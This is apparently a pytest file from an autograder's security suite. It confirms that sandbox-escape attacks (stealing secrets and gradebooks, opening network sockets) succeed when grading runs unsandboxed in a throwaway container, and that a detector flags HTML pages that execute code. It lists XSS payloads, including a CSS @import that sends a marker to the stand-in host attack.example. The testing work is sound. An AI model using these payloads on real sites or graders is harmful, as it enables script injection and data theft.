"""The eyes of the suite see: with the sandbox off, in a throwaway machine, the attacks succeed.

Without this, a suite in which nothing succeeds could be one that looks nowhere.
"""

import os

import pytest

from autograder.batch.grade import grade
from autograder.batch.request import Request
from autograder.course import course
from autograder.release.assignments import release
from tests.attacks import container, harness, marks
from tests.attacks.harness import MARK, TOPIC

FIRED = {
    "steal_import_reference": "points",
    "steal_environment": "found",
    "steal_gradebook": "found",
    "last_gradebook": "others",
    "last_ipython_profile": "files",
    "last_shared_memory": "files",
    "hurt_daemon": "processes",
    "reach_tcp": "network: TCP",
    "reach_udp": "network: UDP",
    "reach_unix_socket": "network: a Unix socket",
    "reach_abstract_socket": "network: an abstract socket",
}


@pytest.fixture(scope="module")
def unboxed():
    """What the chosen attacks achieve where nothing keeps them from it."""
    work = container.new_work()
    folder = work / "course"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COURSE_DIR", str(folder))
        release([TOPIC])
        harness.hand_in_honest(folder)
        grade(Request(course.load(), TOPIC, progress=False))
    program = "import sys; from autograder.submission import assess; "
    program += "from autograder.commands import cli; assess.CELL_SECONDS = 2; "
    program += f"sys.exit(cli.main(['grade', {TOPIC!r}, '--jobs', '1', '--unsafe-no-sandbox']))"
    task = {
        "attacks": list(FIRED),
        "course": str(folder),
        "commands": [[os.sys.executable, "-c", program]],
        "environment": {"COURSE_DIR": str(folder), "GRADER_SECRET": harness.SECRET},
        "step_seconds": 100,
        "seconds": 120,
    }
    yield container.run(work, task)
    container.remove(work)


@pytest.mark.xdist_group("attacks-unboxed")
@pytest.mark.parametrize(("attack", "sign"), FIRED.items())
def test_without_the_sandbox_it_succeeds_and_is_seen(unboxed, attack, sign):
    assert not unboxed["ended"], unboxed
    if sign == "points":
        assert unboxed["scores"][attack] > 0
    elif sign == "found":
        assert attack in unboxed["found"]
    elif sign == "others":
        assert unboxed["others"]
    else:
        assert any(trace.startswith(sign) for trace in unboxed["left"]), unboxed["left"]


@pytest.mark.parametrize(
    "page",
    [
        f"<script>alert('{MARK}')</script>",
        f"<img src=x onerror=\"alert('{MARK}')\">",
        f"<p>{MARK}</p><iframe srcdoc='{MARK}'></iframe>",
        f"<a href=\" java\nscript:alert('{MARK}')\">x</a>",
        f"<style>@import url(https://attack.example/{MARK})</style>",
        f"<script src='mathjax.js'></script><p>$\\href{{x:{MARK}}}{{y}}$</p>",
        "<p>\x1b]0;owned\x07</p>",
    ],
    ids="script handler frame link style mathjax terminal".split(),
)
def test_a_page_that_acts_is_seen(page):
    assert marks.acts(page)


def test_a_page_that_only_speaks_of_it_is_not():
    page = f"<pre>&lt;script&gt;alert('{MARK}')</pre><p>{MARK}</p><script>theirs()</script>"
    assert not marks.acts(page)
